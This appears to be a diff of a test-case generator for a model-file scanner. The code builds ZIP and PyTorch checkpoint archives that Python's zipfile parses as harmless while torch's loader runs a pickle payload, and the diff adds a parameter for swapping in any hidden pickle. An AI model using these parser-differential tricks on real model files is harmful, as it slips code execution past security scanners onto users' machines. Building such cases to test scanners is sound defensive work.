@@ -84,11 +84,12 @@ def _torch_members(pickled: bytes, method: int = 0) -> list[tuple[str, bytes, in
 
 
 # ---- class 1: zips read differently from zipfile and torch's reader ---------------------------
-def zip64_record_with_a_second_directory(canary: Path) -> bytes:
+def zip64_record_with_a_second_directory(canary: Path, hidden: bytes | None = None) -> bytes:
     """Classic end record -> a harmless directory; ZIP64 record -> a second one whose data.pkl runs
-    the payload. zipfile and miniz prefer the ZIP64 record even when the classic one is not maxed out."""
+    the payload (or is `hidden`). zipfile and miniz prefer the ZIP64 record even when the classic
+    one is not maxed out."""
     benign = pickle.dumps({"w": 1}, 2)
-    body, entries = _members(_torch_members(benign) + [("archive/data.pkl", payload(canary), 0)])
+    body, entries = _members(_torch_members(benign) + [("archive/data.pkl", hidden or payload(canary), 0)])
     harmless, evil = entries[:2], [entries[2], entries[1]]
     first, second = _directory(harmless), _directory(evil)
     second_at = len(body) + len(first)
@@ -134,11 +135,11 @@ def duplicate_data_pkl(canary: Path) -> bytes:
     return body + directory + _end(len(entries), len(directory), len(body))
 
 
-def junk_offset_onto_a_harmless_directory(canary: Path) -> bytes:
-    """The end record's directory offset points at the payload's directory, which torch's reader
-    reads; its size is chosen so that zipfile's "data before the archive" correction lands on a
-    harmless directory placed right before the end record."""
-    body, entries = _members(_torch_members(payload(canary)) + _torch_members(pickle.dumps({"w": 1}, 2)))
+def junk_offset_onto_a_harmless_directory(canary: Path, hidden: bytes | None = None) -> bytes:
+    """The end record's directory offset points at the payload's (or `hidden`'s) directory, which
+    torch's reader reads; its size is chosen so that zipfile's "data before the archive" correction
+    lands on a harmless directory placed right before the end record."""
+    body, entries = _members(_torch_members(hidden or payload(canary)) + _torch_members(pickle.dumps({"w": 1}, 2)))
     evil = _directory(entries[:2])
     shift = len(evil)  # zipfile: end - size - offset = (start of the harmless directory) - (start of the evil one)
     for entry in entries[2:]:
